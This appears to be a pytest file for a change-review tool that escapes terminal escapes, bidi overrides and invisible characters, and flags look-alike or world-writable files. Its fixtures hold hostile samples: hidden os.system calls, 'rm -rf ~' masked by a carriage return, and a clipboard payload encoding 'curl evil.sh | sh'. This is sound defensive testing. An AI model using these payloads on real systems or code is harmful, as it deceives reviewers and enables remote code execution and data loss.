"""The reviewer sees what lands: hidden characters escaped wherever a person reads, look-alike
names, hidden text and loosely-permissioned files marked and never `auto`."""

from __future__ import annotations

import io
import os
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airlockd.cli.streams import EscapedText
from airlockd.names import confusable, display, escape, has_hidden, marks
from airlockd.pipeline.classify import classify
from airlockd.pipeline.manifest import Change, ChangeKind, Entry, Kind
from airlockd.policy import Decision, Policy, load_policy
from airlockd.runs.content import hidden_in

PERMISSIVE = '[[rules]]\nmatch = ["*", "**/*"]\naction = "auto"\nreason = "trusted"\n'
ATTACKS = {
    "concealed text (SGR 8)": "x = 1\x1b[8m; import os; os.system('id')\x1b[0m\n",
    "cursor up + erase line": "ok()\nevil()\x1b[1A\x1b[2K\n",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\n",
    "C1 CSI": "a\u009b2Kb\n",
    "bidi override (Trojan source)": 'access = "user\u202e \u2066// check admin\u2069 \u2066"\n',
    "carriage return over a line": "rm -rf ~\rls -l   \n",
    "backspace": "safe\x08\x08\x08\x08evil\n",
    "line separator": "let ok = 1;\u2028evil();\n",
    "tag characters": "# note\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\n",
    "vertical tab": "a = 1\x0bb = 2\n",
    "Hangul filler": "if user\u3164 == admin:\n",
    "zero-width space": "is_admin\u200b = True\n",
    "byte-order mark inside": "x = 1\n\ufeffy = 2\n",
}


@pytest.fixture
def permissive(tmp_path: Path) -> Policy:
    (tmp_path / "policies.toml").write_text(PERMISSIVE)
    return load_policy(tmp_path).policy


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_escape_leaves_nothing_a_terminal_acts_on(attack: str) -> None:
    shown = escape(ATTACKS[attack])
    assert not has_hidden(shown)
    assert not any(unicodedata.category(ch) in ("Cc", "Cf") for ch in shown if ch not in "\n\t")
    assert shown.count("\n") == ATTACKS[attack].count("\n")  # lines stay lines


@given(st.text())
def test_escape_is_total_and_keeps_only_what_is_drawn(text: str) -> None:
    shown = escape(text)
    for ch in shown:
        assert ch in "\n\t" or unicodedata.category(ch) not in ("Cc", "Cf", "Zl", "Zp", "Co", "Cs"), repr(ch)
    if not has_hidden(text):
        assert shown == text


def test_escape_is_linear_in_the_input() -> None:
    import time

    for text in ("\x1b" * 200_000, "a" * 2_000_000, "日本語" * 300_000):
        started = time.process_time()
        escape(text)
        assert time.process_time() - started < 5  # a bound for a loaded machine, not a benchmark


def test_display_names_escape_newlines_controls_and_bidi() -> None:
    assert display("a\nb") == "a\\nb"
    assert display("x\x1b[2Jy") == "x\\x1b[2Jy"
    assert display("invoice\u202egpj.exe") == "invoice\\u202egpj.exe"
    assert display("café/日本.py") == "café/日本.py"


def test_look_alike_names_are_named_with_what_they_read_as() -> None:
    look = confusable("s\u0435tup.py")
    assert look is not None and "'setup.py'" in look and "CYRILLIC SMALL LETTER IE" in look
    assert confusable("setup.py") is None
    assert confusable("café.py") is None and confusable("日本語/π.md") is None
    assert marks("s\u0435tup.py") == [f"look-alike name: {look}"]
    assert marks("a\u202eb") == ["bidirectional control in the name"]
    assert marks("src/ok.py") == []


def _file(path: str, mode: int = 0o644, change: ChangeKind = ChangeKind.CREATED) -> Change:
    return Change(path, change, None, Entry(Kind.FILE, mode, 10, "0" * 64))


def test_a_look_alike_name_is_reviewed_whatever_the_policy_says(permissive: Policy) -> None:
    (c,) = classify([_file("s\u0435tup.py")], permissive, ())
    assert (c.decision, c.rule) == (Decision.REVIEW, "invariant:confusable-name")
    assert "setup.py" in c.reason
    (ok,) = classify([_file("café.py")], permissive, ())
    assert ok.decision is Decision.AUTO


@pytest.mark.parametrize("mode", [0o777, 0o666, 0o664, 0o646, 0o770])
def test_a_file_others_may_write_is_reviewed(permissive: Policy, mode: int) -> None:
    (c,) = classify([_file("tool.sh", mode)], permissive, ())
    assert (c.decision, c.rule) == (Decision.REVIEW, "invariant:writable-by-others")
    assert f"{mode & 0o7777:04o}" in c.reason


def test_ordinary_modes_pass_and_a_new_executable_is_reviewed(permissive: Policy) -> None:
    got = classify([_file("a.py", 0o644), _file("tests/run_all", 0o755), _file("b.py", 0o600)], permissive, ())
    assert [c.decision for c in got] == [Decision.AUTO, Decision.REVIEW, Decision.AUTO]
    assert got[1].rule == "invariant:executable"


def test_a_created_directory_others_may_write_is_reviewed(permissive: Policy) -> None:
    d = Change("pkg", ChangeKind.CREATED, None, Entry(Kind.DIR, 0o777, 0, None))
    got = {c.change.path: c for c in classify([d, _file("pkg/a.py")], permissive, ())}
    assert (got["pkg"].decision, got["pkg"].rule) == (Decision.REVIEW, "invariant:writable-by-others")
    assert got["pkg/a.py"].decision is Decision.AUTO


def test_hidden_text_is_reviewed_and_a_deny_stays_a_deny(permissive: Policy) -> None:
    hidden = {"a.py": "a terminal escape (ESC)", ".git/config": "a terminal escape (ESC)"}
    got = classify([_file("a.py"), _file(".git/config")], permissive, (), hidden=hidden)
    assert (got[0].decision, got[0].rule) == (Decision.REVIEW, "invariant:hidden-characters")
    assert "terminal escape" in got[0].reason
    assert got[1].decision is Decision.DENY


def test_hidden_in_finds_every_attack_and_passes_honest_text(tmp_path: Path) -> None:
    run_dir = tmp_path  # a run with no stager recorded is a copy: its proposed tree is staging/
    (run_dir / "staging").mkdir()
    changes = []
    for n, name in enumerate(sorted(ATTACKS)):
        p = run_dir / "staging" / f"attack{n}.txt"
        p.write_text(ATTACKS[name])
        changes.append(_file(p.name))
    honest = {
        "crlf.txt": b"line one\r\nline two\r\n",
        "tabs.py": b"def f():\n\treturn '\xc3\xa9\xe6\x97\xa5'\n",
        "binary.bin": b"\x00\x1b[8m binary content is listed as binary, never shown as text",
        "bom.txt": b"\xef\xbb\xbfhello\n",
        "emoji.md": "family \U0001f468\u200d\U0001f469\u200d\U0001f467 and caf\u00e9\n".encode(),
    }
    for name, data in honest.items():
        (run_dir / "staging" / name).write_bytes(data)
        changes.append(_file(name))
    os.symlink("attack0.txt", run_dir / "staging" / "link")
    changes.append(Change("link", ChangeKind.CREATED, None, Entry(Kind.SYMLINK, 0o777, 0, None, target="attack0.txt")))
    found = hidden_in(run_dir, changes, max_bytes=1 << 20)
    assert set(found) == {f"attack{n}.txt" for n in range(len(ATTACKS))}
    bidi = sorted(ATTACKS).index("bidi override (Trojan source)")
    assert "bidirectional" in found[f"attack{bidi}.txt"]


def test_every_cli_write_in_plain_text_is_escaped() -> None:
    raw = io.StringIO()
    out = EscapedText(raw)
    print("--- a/x.py", file=out)
    print(ATTACKS["OSC 52 clipboard write"], end="", file=out)
    print("+evil()\x1b[1A\x1b[2K", file=out)
    assert "\x1b" not in raw.getvalue() and "\\x1b]52;c;" in raw.getvalue()
    assert raw.getvalue().count("\n") == 3


@pytest.mark.parametrize("ch", ["\u115f", "\u1160", "\u3164", "\uffa0", "\u17b4", "\ufe0f", "\u200b", "\ufeff"])
def test_blank_fillers_python_calls_printable_are_escaped_too(ch: str) -> None:
    assert escape(f"a{ch}b") == f"a\\u{ord(ch):04x}b"
    assert display(f"x{ch}.py") == f"x\\u{ord(ch):04x}.py"


@pytest.mark.parametrize("name", ["a\u3164.py", "x\u200b.py", "\u115fsetup.py", "b\ufe0f.md"])
def test_a_name_with_an_invisible_filler_is_reviewed_and_marked(permissive: Policy, name: str) -> None:
    (c,) = classify([_file(name)], permissive, ())
    assert (c.decision, c.rule) == (Decision.REVIEW, "invariant:unusual-name")
    assert marks(name) == ["hidden character in the name"]


@pytest.mark.parametrize("space", ["\u00a0", "\u3000", "\u2009"])
def test_a_name_ending_in_a_space_that_is_not_one_is_escaped_and_marked(space: str) -> None:
    assert display(f"app.py{space}") == f"app.py\\u{ord(space):04x}" or display(f"app.py{space}") == "app.py\\xa0"
    assert marks(f"app.py{space}") == ["hidden character in the name"]
    assert escape(f"text{space}stays") == f"text{space}stays"  # in text it is ordinary
